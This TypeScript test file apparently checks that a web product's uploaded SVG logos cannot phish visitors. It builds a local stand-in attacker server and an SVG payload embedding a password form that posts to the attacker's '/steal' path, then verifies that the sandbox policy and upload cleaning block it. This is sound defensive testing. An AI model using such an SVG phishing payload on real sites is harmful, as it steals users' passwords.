import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import * as t from '../apps/server/src/db/schema.ts';
import { mainHeading, VIEWPORTS } from './support/browser.ts';
import { FIXTURE_OFFICES } from './support/product.ts';
import { useRunningProduct } from './support/running-product.ts';

const running = useRunningProduct();

/** The attacker's site: records every request it is sent, and serves the phishing logo itself (without any policy). */
interface AttackerSite {
  origin: string;
  requests: Array<{ method: string; path: string; body: string }>;
  serve(path: string, svg: string): string;
  close(): Promise<void>;
}

async function startAttackerSite(): Promise<AttackerSite> {
  const requests: AttackerSite['requests'] = [];
  const files = new Map<string, string>();
  const bodyOf = (request: IncomingMessage) =>
    new Promise<string>((resolve) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
      request.on('end', () => resolve(body));
    });
  const server = createServer(async (request, response) => {
    const path = new URL(request.url ?? '/', 'http://attacker').pathname;
    const file = files.get(path);
    if (file === undefined) requests.push({ method: request.method ?? '', path, body: await bodyOf(request) });
    response.writeHead(200, {
      'content-type': file === undefined ? 'text/plain' : 'image/svg+xml',
      'cache-control': 'no-store',
    });
    response.end(file ?? 'thanks');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    requests,
    serve: (path, svg) => {
      files.set(path, svg);
      return `${origin}${path}`;
    },
    close: () => new Promise<void>((resolve, reject) => server.close((error) => (error ? reject(error) : resolve()))),
  };
}

/** The probe's logo (issue 39 item 4): a sign-in form drawn in the logo, posting to the attacker. */
const phishingLogo = (
  action: string,
) => `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200" viewBox="0 0 400 200">
  <foreignObject width="400" height="200">
    <form xmlns="http://www.w3.org/1999/xhtml" action="${action}" method="post">
      <label>Password <input name="password" type="password"/></label>
      <button type="submit">Sign in</button>
    </form>
  </foreignObject>
</svg>`;

// An SVG document has no accessibility tree of HTML roles and labels to find the form by.
const passwordField = (page: Page) => page.locator('input[name="password"]');
const signInButton = (page: Page) => page.locator('button[type="submit"]');

/** Types a password into the logo's form and submits it, as a visitor deceived by it would. */
async function typeAndSubmit(page: Page): Promise<void> {
  await passwordField(page).fill('hunter2-secret');
  await signInButton(page).click();
}

/** Waits for the attacker to have `count` requests, or for `ms` to pass. */
async function settle(attacker: AttackerSite, count: number, ms: number): Promise<void> {
  const end = Date.now() + ms;
  while (attacker.requests.length < count && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 50));
}

describe('an SVG logo opened at its own address', () => {
  let attacker: AttackerSite;
  beforeAll(async () => {
    attacker = await startAttackerSite();
  });
  afterAll(async () => attacker?.close());

  it('submits its form when the attacker serves it without a policy: the stand-in sees what a phishing logo would send', async () => {
    const page = await (await running.browser.newContext({ viewport: VIEWPORTS.desktop })).newPage();
    await page.goto(attacker.serve('/logo.svg', phishingLogo(`${attacker.origin}/steal`)));
    await typeAndSubmit(page);
    await settle(attacker, 1, 5_000);
    expect(attacker.requests[0]).toEqual({ method: 'POST', path: '/steal', body: 'password=hunter2-secret' });
    attacker.requests.length = 0;
  });

  it("sends nothing from the product's own origin, for a logo stored before uploads were cleaned", async () => {
    // Written straight into the table, as a logo saved before uploads were cleaned is: the serving policy alone protects it.
    const office = FIXTURE_OFFICES.late;
    await running.product.database.db
      .update(t.offices)
      .set({
        logo: `data:image/svg+xml;base64,${Buffer.from(phishingLogo(`${attacker.origin}/steal`)).toString('base64')}`,
      })
      .where(eq(t.offices.id, office));
    const page = await (await running.browser.newContext({ viewport: VIEWPORTS.desktop })).newPage();
    const opened = await page.goto(`${running.product.baseUrl}/late/logo?office=${office}`);
    expect(opened?.headers()['content-security-policy']).toContain('sandbox');
    const sent: string[] = [];
    page.on('request', (request) => {
      if (new URL(request.url()).pathname !== '/favicon.ico') sent.push(request.url());
    });
    await typeAndSubmit(page);
    await settle(attacker, 1, 2_000);
    expect(attacker.requests).toEqual([]);
    // Submitted by the keyboard too.
    await passwordField(page).press('Enter');
    await settle(attacker, 1, 1_000);
    expect(attacker.requests).toEqual([]);
    expect(sent).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/late/logo');
  });

  it('sends nothing either once the same logo is uploaded: the form is gone from it', async () => {
    const headers = { authorization: `Bearer ${running.product.adminToken}` };
    const current = await running.product.app.inject({ method: 'GET', url: '/api/admin/companies/zip', headers });
    const document = current.json() as Record<string, any>;
    document.offices[0].logo = `data:image/svg+xml;base64,${Buffer.from(phishingLogo(`${attacker.origin}/steal`)).toString('base64')}`;
    expect(
      (await running.product.app.inject({ method: 'PUT', url: '/api/admin/companies/zip', headers, payload: document }))
        .statusCode,
    ).toBe(200);
    const page = await (await running.browser.newContext({ viewport: VIEWPORTS.desktop })).newPage();
    await page.goto(`${running.product.baseUrl}/zip/logo?office=${FIXTURE_OFFICES.zip}`);
    await page.locator('svg').waitFor();
    expect(await passwordField(page).count()).toBe(0);
    expect(await signInButton(page).count()).toBe(0);
    expect(attacker.requests).toEqual([]);
  });

  it('still shows an SVG logo in the wizard', async () => {
    const page = await (await running.browser.newContext({ viewport: VIEWPORTS.desktop })).newPage();
    await page.goto(running.product.linkOf('demo'));
    await mainHeading(page);
    const logo = page.getByRole('img', { name: 'Scioto Valley Home Inspections' });
    await logo.waitFor();
    await page.waitForFunction((image) => (image as HTMLImageElement).complete, await logo.elementHandle());
    expect(await logo.evaluate((image) => (image as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);
  });
});
